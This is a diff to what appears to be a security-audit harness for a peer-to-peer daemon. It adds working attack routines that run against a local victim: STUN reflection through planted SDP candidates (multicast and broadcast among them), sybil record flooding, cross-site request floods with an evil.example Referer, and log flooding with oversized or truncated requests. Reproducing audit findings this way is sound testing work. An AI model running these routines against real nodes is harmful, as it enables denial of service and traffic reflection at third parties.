@@ -20,6 +20,7 @@ from __future__ import annotations
 import argparse
 import asyncio
 import contextlib
+import functools
 import json
 import os
 import random
@@ -59,7 +60,8 @@ class Run:
         self.daemons: list[Daemon] = []
         self.victim = self._start(tmp / f"{name}-victim", "victim", env=env, prefix=prefix,
                                   cwd=Path(source) if source else None,
-                                  extra=["--health-interval", "1"],
+                                  extra=["--health-interval", "1"]
+                                  if "--health-interval" in _run_options(source) else [],
                                   bootstrap=bootstrap_victim or [])
         self.honest: Daemon | None = None
         self.latency_ms = 0.0
@@ -414,6 +416,175 @@ async def signals(tmp: Path, source: str | None) -> dict[str, Any]:
         run.close()
 
 
+async def reflect(tmp: Path, source: str | None) -> dict[str, Any]:
+    """Finding 7, first half: one offer with 32 candidates at chosen addresses (UDP ports
+    on loopback that swallow everything): how many STUN packets, to how many of them; and
+    whether candidates at multicast, broadcast, unspecified addresses or port 0 pass."""
+    run = Run(tmp, source, "reflect")
+    try:
+        sinks = []
+        for _ in range(32):
+            sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            sink.bind(("127.0.0.1", 0))
+            sink.setblocking(False)
+            sinks.append(sink)
+        (offer,) = await _sink_offers(1, 9)
+        packets = {}
+        status = await _offer_with(run, offer, [("127.0.0.1", s.getsockname()[1])
+                                                for s in sinks], "127.0.0.2")
+        deadline = time.monotonic() + 12
+        while time.monotonic() < deadline:
+            for sink in sinks:
+                with contextlib.suppress(BlockingIOError):
+                    while sink.recv(2048):
+                        port = sink.getsockname()[1]
+                        packets[port] = packets.get(port, 0) + 1
+            await asyncio.sleep(0.05)
+        for sink in sinks:
+            sink.close()
+        odd = {}
+        for i, (what, host, port) in enumerate([
+                ("multicast", "224.0.0.251", 5353), ("broadcast", "255.255.255.255", 9),
+                ("unspecified", "0.0.0.0", 9), ("port 0", "127.0.0.1", 0)]):
+            odd[what] = await _offer_with(run, offer, [(host, port)], f"127.0.0.{3 + i}")
+        return {"offer_candidates": 32, "offer_answered": status,
+                "stun_packets": sum(packets.values()), "destinations_probed": len(packets),
+                "odd_candidates_answer": odd}
+    finally:
+        run.close()
+
+
+async def _offer_with(run: Run, offer: dict[str, str], candidates: list[tuple[str, int]],
+                      source_ip: str) -> int:
+    """POST `offer` with its candidates replaced by `candidates`: the HTTP status."""
+    lines = [line for line in offer["sdp"].split("\r\n")
+             if not line.startswith(("a=candidate:", "a=end-of-candidates"))]
+    at = next(i for i, line in enumerate(lines) if line.startswith("a=ice-ufrag"))
+    lines[at:at] = [f"a=candidate:{i + 1} 1 udp {2130706431 - i} {host} {port} typ host"
+                    for i, (host, port) in enumerate(candidates)] + ["a=end-of-candidates"]
+    body = {"network": NETWORK, "from": id_to_text(os.urandom(32)),
+            "offer": {"type": "offer", "sdp": "\r\n".join(lines)}}
+    connector = aiohttp.TCPConnector(local_addr=(source_ip, 0), force_close=True)
+    async with aiohttp.ClientSession(connector=connector) as session:
+        try:
+            async with session.post(run.victim.peer_url, json=body,
+                                    timeout=aiohttp.ClientTimeout(total=40)) as reply:
+                await reply.read()
+                return reply.status
+        except (aiohttp.ClientError, TimeoutError):
+            return 0
+
+
+async def spam(tmp: Path, source: str | None) -> dict[str, Any]:
+    """Finding 5: 6,000 node.info records from fresh identities, 100 per frame: what the
+    victim keeps, what reaches its honest peer, and the memory both use."""
+    run = Run(tmp, source, "spam")
+    try:
+        honest = run.add_honest(tmp, "spam")
+        await until(run.honest_connected, 30)
+        await asyncio.sleep(2)
+        wires = [create_record(Identity.from_seed(os.urandom(32)), network=NETWORK,
+                               version=now_ms(), ttl_ms=24 * 3_600_000,
+                               body=NodeInfo(f"spam{i}", "x" * 40, (), (), ())).wire
+                 for i in range(6000)]
+        before, honest_before = run.rss(), _rss_of(honest)
+        watcher = asyncio.create_task(run.watch())
+        x = await Hostile().connect(run.victim.peer_url)
+        sent = await x.send_all((records_frame(wires[i:i + 100])
+                                 for i in range(0, len(wires), 100)), pause_s=0.05)
+        await asyncio.sleep(15)
+        run.stop_watching()
+        await watcher
+        result = {"records_sent": len(wires), "frames_sent": sent,
+                  "victim_records": run.victim.status()["records"],
+                  "honest_records": honest.status()["records"],
+                  "rss_before_mb": before / MiB, "rss_after_mb": run.rss() / MiB,
+                  "honest_rss_before_mb": honest_before / MiB,
+                  "honest_rss_after_mb": _rss_of(honest) / MiB,
+                  "attacker_closed": x.closed_reason or ("gone" if x.gone else None)}
+        await x.close()
+        return {**result, **await _honest(run)}
+    finally:
+        run.close()
+
+
+def _rss_of(d: Daemon) -> int:
+    assert d.proc is not None
+    with open(f"/proc/{d.proc.pid}/status") as f:
+        return int(next(x for x in f if x.startswith("VmRSS:")).split()[1]) * 1024
+
+
+async def views(tmp: Path, source: str | None) -> dict[str, Any]:
+    """Finding 8: six parallel loads of GET /api/v1/views from a web page (an image tag: no
+    token, Sec-Fetch-Site cross-site) for 10 s, against a victim holding 8,000 ops."""
+    run = Run(tmp, source, "views")
+    try:
+        x = await Hostile().connect(run.victim.peer_url)
+        now = now_ms() - 60_000
+        wires = [create_op(Identity.from_seed(os.urandom(32)), network=NETWORK, seq=1,
+                           prev=None, timestamp=now, body=Register("r")).wire
+                 for _ in range(8000)]
+        await x.send_all(ops_frame(wires[i:i + 100]) for i in range(0, 8000, 100))
+        await until(lambda: run.victim.status()["ops"] >= 8000, 60)
+        await x.close()
+        await asyncio.sleep(2)
+        watcher = asyncio.create_task(run.watch())
+        url = run.victim.run["control_url"]
+        headers = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors",
+                   "Sec-Fetch-Dest": "image", "Referer": "https://evil.example/"}
+        statuses: dict[int, int] = {}
+        stop = time.monotonic() + 10
+
+        async def loader(session: aiohttp.ClientSession) -> None:
+            while time.monotonic() < stop:
+                async with session.get(url + "/api/v1/views", headers=headers) as reply:
+                    await reply.read()
+                    statuses[reply.status] = statuses.get(reply.status, 0) + 1
+
+        async with aiohttp.ClientSession() as session:
+            await asyncio.gather(*(loader(session) for _ in range(6)))
+        run.stop_watching()
+        await watcher
+        return {"ops": 8000, "answers": statuses,
+                "health_latency_max_ms": round(run.latency_ms),
+                "victim_loop_lag_max_ms": run.own_lag_ms}
+    finally:
+        run.close()
+
+
+async def logs(tmp: Path, source: str | None) -> dict[str, Any]:
+    """Finding 9: 200 requests with an oversized header and 200 uploads cut short, on the
+    peer port: the victim's log lines and tracebacks."""
+    run = Run(tmp, source, "logs")
+    try:
+        host, port = run.victim.peer_url.split("//")[1].split("/")[0].rsplit(":", 1)
+        lines_before = len(run.victim.read_log())
+        big = b"GET /v1/info HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 20_000 + b"\r\n\r\n"
+        cut = (b"POST /v1/signal HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+               b"Content-Length: 9000\r\n\r\n{\"network\": ")
+
+        def send(data: bytes, i: int, read: bool) -> None:
+            with contextlib.suppress(OSError), socket.create_connection(
+                    (host, int(port)), source_address=(f"127.0.2.{2 + i % 200}", 0),
+                    timeout=5) as conn:
+                conn.sendall(data)
+                if read:
+                    conn.recv(100)
+
+        for i in range(200):
+            await asyncio.to_thread(send, big, i, True)
+        for i in range(200):
+            await asyncio.to_thread(send, cut, i, False)
+        await asyncio.sleep(3)
+        log = run.victim.read_log()[lines_before:]
+        return {"requests": 400, "log_lines": len(log),
+                "tracebacks": sum("Traceback" in line for line in log),
+                "error_lines": sum(" ERROR " in line for line in log),
+                "first_line": log[0][:160] if log else None}
+    finally:
+        run.close()
+
+
 async def _honest(run: Run) -> dict[str, Any]:
     connected = await asyncio.to_thread(run.honest_connected)
     synced = await run.honest_syncs()
@@ -424,7 +595,20 @@ async def _honest(run: Run) -> dict[str, Any]:
 
 ATTACKS: dict[str, Callable[[Path, str | None], Awaitable[dict[str, Any]]]] = {
     "refs": refs, "sync": sync, "conns": connections, "ice": ice, "sybils": sybils,
-    "signals": signals}
+    "signals": signals, "reflect": reflect, "spam": spam, "views": views, "logs": logs}
+
+
+@functools.cache
+def _run_options(source: str | None) -> str:
+    """`liberation-node run --help` of the tree a victim runs: older trees lack some
+    options (e.g. --health-interval: their health is checked every 10 s, and they have
+    no /api/v1/health, so only the outside latency measures them)."""
+    import subprocess
+
+    out = subprocess.run([sys.executable, "-m", "liberation_node", "run", "--help"],
+                         capture_output=True, text=True, check=False, cwd=source or None,
+                         env={**os.environ, **({"PYTHONPATH": source} if source else {})})
+    return out.stdout
 
 
 def _code_of(source: str | None) -> str:
